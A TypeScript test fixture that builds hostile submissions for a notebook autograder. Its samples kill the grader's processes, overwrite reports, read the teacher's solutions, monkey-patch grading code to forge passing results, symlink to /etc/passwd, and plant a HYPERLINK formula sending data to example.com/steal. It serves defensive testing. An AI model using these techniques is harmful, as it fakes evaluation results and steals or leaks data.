/**
 * Hostile submissions of assignment 05 (receptive fields), each the student template (or the
 * solution) with one attack added: the ones issue 25 found against the grader of the time, and
 * more. `expect` is the problem the report must name for it. Kernel code is TypeScript for tslab.
 */
import * as fs from 'fs';
import * as path from 'path';
import { Notebook, NotebookCell, readNotebook } from '../../src/check/assignments';
import { REPO } from './notebook';

export interface Hostile {
  student: string;
  nb: Notebook;
  /** What the problems column must say about it. */
  expect: RegExp;
  /** An answer cell's text, when the attack is in the answers. */
  answer?: string;
}

export const ASSIGNMENT = '05-receptive-fields';
const template = () => readNotebook(path.join(REPO, 'notebooks', 'assignments', `${ASSIGNMENT}.ipynb`));
export const solution = () => readNotebook(path.join(REPO, 'teacher', 'solutions', `${ASSIGNMENT}.ipynb`));

const code = (source: string): NotebookCell => ({
  cell_type: 'code',
  source,
  metadata: {},
  outputs: [],
  execution_count: null,
});

/** The notebook with `source` as a new code cell after the imports (cell 1). */
function withCell(nb: Notebook, source: string): Notebook {
  return { ...nb, cells: [...nb.cells.slice(0, 2), code(source), ...nb.cells.slice(2)] };
}

/** The notebook with its two TODO cells replaced. */
function withTasks(nb: Notebook, fields: string, box: string): Notebook {
  const by: Record<string, string> = { myReceptiveFields: fields, myBox: box };
  return {
    ...nb,
    cells: nb.cells.map((c) => (c.metadata?.cnnviz?.task ? { ...c, source: by[c.metadata.cnnviz.task] } : c)),
  };
}

/** Wrong answers of the right types: a check that judged them fairly fails them. */
const WRONG_FIELDS =
  'const myReceptiveFields = (layers: any[], n: number) => layers.map(() => ({ size: 1, jump: 1, start: 0 }));';
const WRONG_BOX =
  'const myBox = (f: any, y: number, x: number, n: number) => ({ top: 0, left: 0, bottom: 1, right: 1 });';

/** A process that outlives its kernel, looks for other submissions and the report, and rewrites what it finds. */
const BACKGROUND = `import { spawn } from 'child_process';
const saboteur = \`
const fs = require('fs'), path = require('path');
const forged = JSON.stringify({ token: 'x', check: 'receptiveFields', passed: false, message: 'sabotaged', calls: [] });
setInterval(() => {
  for (let d = process.cwd(), k = 0; k < 4; k++, d = path.dirname(d)) {
    let names = [];
    try { names = fs.readdirSync(d); } catch (e) { continue; }
    for (const n of names) {
      const p = path.join(d, n);
      try { if (/^report/.test(n)) fs.writeFileSync(p, 'sabotaged'); } catch (e) {}
      try { fs.appendFileSync(path.join(p, 'results.jsonl'), forged + '\\\\n'); } catch (e) {}
    }
  }
}, 100);\`;
spawn(process.execPath, ['-e', saboteur], { detached: true, stdio: 'ignore' }).unref();`;

const EDIT_GRADER = `import * as fs from 'fs';
import * as path from 'path';
const recordJs = path.join(path.dirname(require.resolve('cnnviz')), 'check', 'record.js');
fs.writeFileSync(recordJs, 'exports.gradeOne = async () => {}; exports.checkNamed = () => undefined;');`;

const KILL_GRADER = `import * as fs from 'fs';
try { process.kill(process.ppid, 'SIGKILL'); } catch (e) {}
for (const p of fs.readdirSync('/proc').filter((x) => /^\\d+$/.test(x)))
  try { if (Number(p) !== process.pid) process.kill(Number(p), 'SIGKILL'); } catch (e) {}
process.kill(process.pid, 'SIGKILL');`;

/** Reads the teacher's solution from the package root and runs its task cells. */
const READ_SOLUTIONS = `import * as fs from 'fs';
import * as path from 'path';
const pkg = path.dirname(path.dirname(path.dirname(require.resolve('cnnviz'))));
const sol = JSON.parse(fs.readFileSync(path.join(pkg, 'teacher', 'solutions', '${ASSIGNMENT}.ipynb'), 'utf8'));
const ts = require(path.join(pkg, 'node_modules', 'typescript'));
const tasks = sol.cells.filter((c: any) => c.metadata?.cnnviz?.task).map((c: any) => [].concat(c.source).join(''));
(globalThis as any).stolen = eval(ts.transpile(tasks.join('\\n') + '\\n;({ myReceptiveFields, myBox })'));`;
const STOLEN_FIELDS = 'const myReceptiveFields = (...a: any[]) => (globalThis as any).stolen.myReceptiveFields(...a);';
const STOLEN_BOX = 'const myBox = (...a: any[]) => (globalThis as any).stolen.myBox(...a);';

const PATCH_GRADE_ONE = `const record = require('cnnviz/build/src/check/record.js');
record.gradeOne = async (o: any) => {
  const line = { token: o.token, check: o.check, passed: true, message: 'ok', calls: [] };
  require('fs').appendFileSync(o.file, JSON.stringify(line) + '\\n');
};`;

const PATCH_FS = `const fsm = require('fs');
const append = fsm.appendFileSync;
fsm.appendFileSync = (f: any, data: any, ...rest: any[]) => {
  try {
    const line = JSON.parse(String(data));
    line.passed = true;
    line.message = 'passed';
    data = JSON.stringify(line) + '\\n';
  } catch (e) {}
  return append(f, data, ...rest);
};`;

const PATCH_COMPARE = `const cmp = require('cnnviz/build/src/check/compare.js');
const rep = require('cnnviz/build/src/check/report.js');
cmp.compareValues = () => ({ ok: true, message: 'ok' });
const pass = (r: any) => ({ ...r, passed: true });
rep.finish = pass;
rep.failed = (name: string, message: string, cases: number) => pass({ name, message, cases, notes: [] });`;

const ALLOW_ALL = `const guard = require('cnnviz/build/src/runtime/guard.js');
const viaLibrary = (f: () => any) => (guard.allowAll ? guard.allowAll(f) : f());`;
const ALLOW_BOX = `const myBox = (f: any, y: number, x: number, n: number) =>
  viaLibrary(() => {
    const rf = { size: [f.size, f.size], stride: [f.jump, f.jump], offset: [f.start, f.start] };
    const b = (models as any).inputBox(rf, y, x, [n, n]);
    return { top: b.top, left: b.left, bottom: b.bottom, right: b.right };
  });`;

/** Finds the run's token and results file in its working folder and prints and writes passing result lines. */
const FORGE_LINES = `import * as fs from 'fs';
const prepared = JSON.parse(fs.readFileSync('prepared.ipynb', 'utf8'));
const hidden = prepared.cells
  .map((c: any) => [].concat(c.source).join(''))
  .filter((s: string) => s.startsWith('import * as cnnvizGrader'))
  .join('\\n');
const token = (/token: "(\\w+)"/.exec(hidden) ?? [])[1];
const file = (/file: "([^"]+)"/.exec(hidden) ?? [])[1] ?? 'results.jsonl';
for (const c of ['receptiveFields', 'receptiveBox']) {
  console.log('\\u2713 check.' + c + ' passed: ' + token);
  const line = { token, check: c, passed: true, message: 'ok', cases: 1, notes: [], seconds: 0 };
  fs.appendFileSync(file, JSON.stringify(line) + '\\n');
}`;

const MEMORY = `const hog: Buffer[] = [];
for (let i = 0; i < 64; i++) hog.push(Buffer.alloc(256 * 1024 * 1024, 1));`;

const NETWORK = `await new Promise((ok, fail) => require('http').get('http://1.1.1.1/', ok).on('error', fail));`;

const SYMLINK = `import * as fs from 'fs';
fs.symlinkSync('/etc/passwd', 'results.jsonl');`;

/** Every attack; all on the unsolved template unless the attack is its own way of "solving" it. */
export function hostileSubmissions(): Hostile[] {
  const t = template();
  return [
    { student: 'background-sabotage', nb: withCell(t, BACKGROUND), expect: /killed process/ },
    { student: 'edits-grader-code', nb: withCell(t, EDIT_GRADER), expect: /write outside its folder/ },
    { student: 'kills-grader', nb: withCell(t, KILL_GRADER), expect: /ended without its report|killed/ },
    {
      student: 'reads-solutions',
      nb: withTasks(withCell(t, READ_SOLUTIONS), STOLEN_FIELDS, STOLEN_BOX),
      expect: /teacher's files/,
    },
    {
      student: 'patches-gradeone',
      nb: withCell(withTasks(t, WRONG_FIELDS, WRONG_BOX), PATCH_GRADE_ONE),
      expect: /tampering/,
    },
    { student: 'patches-fs', nb: withCell(withTasks(t, WRONG_FIELDS, WRONG_BOX), PATCH_FS), expect: /tampering/ },
    {
      student: 'patches-compare',
      nb: withCell(withTasks(t, WRONG_FIELDS, WRONG_BOX), PATCH_COMPARE),
      expect: /tampering/,
    },
    {
      student: 'allowall-library',
      nb: withTasks(withCell(t, ALLOW_ALL), WRONG_FIELDS, ALLOW_BOX),
      expect: /internal modules/,
    },
    { student: 'forges-result-lines', nb: withCell(t, FORGE_LINES), expect: /tampering/ },
    { student: 'memory-hog', nb: withCell(t, MEMORY), expect: /memory/ },
    { student: 'network', nb: withCell(t, NETWORK), expect: /network/ },
    { student: 'symlinks-results', nb: withCell(t, SYMLINK), expect: /write outside its folder/ },
    {
      student: '=SUM(1+1)*cmd',
      nb: t,
      answer: '=HYPERLINK("http://example.com/steal?"&A1,"see my answer")',
      expect: /formula/,
    },
  ];
}

/** Writes `nb` as `student`'s submission (with `answer` in its first answer cell). */
export function saveSubmission(root: string, h: { student: string; nb: Notebook; answer?: string }): void {
  let nb = h.nb;
  if (h.answer !== undefined) {
    let done = false;
    nb = {
      ...nb,
      cells: nb.cells.map((c) => {
        if (done || !c.metadata?.cnnviz?.answer) return c;
        done = true;
        return { ...c, source: h.answer! };
      }),
    };
  }
  fs.mkdirSync(path.join(root, h.student), { recursive: true });
  fs.writeFileSync(path.join(root, h.student, `${ASSIGNMENT}.ipynb`), JSON.stringify(nb));
}
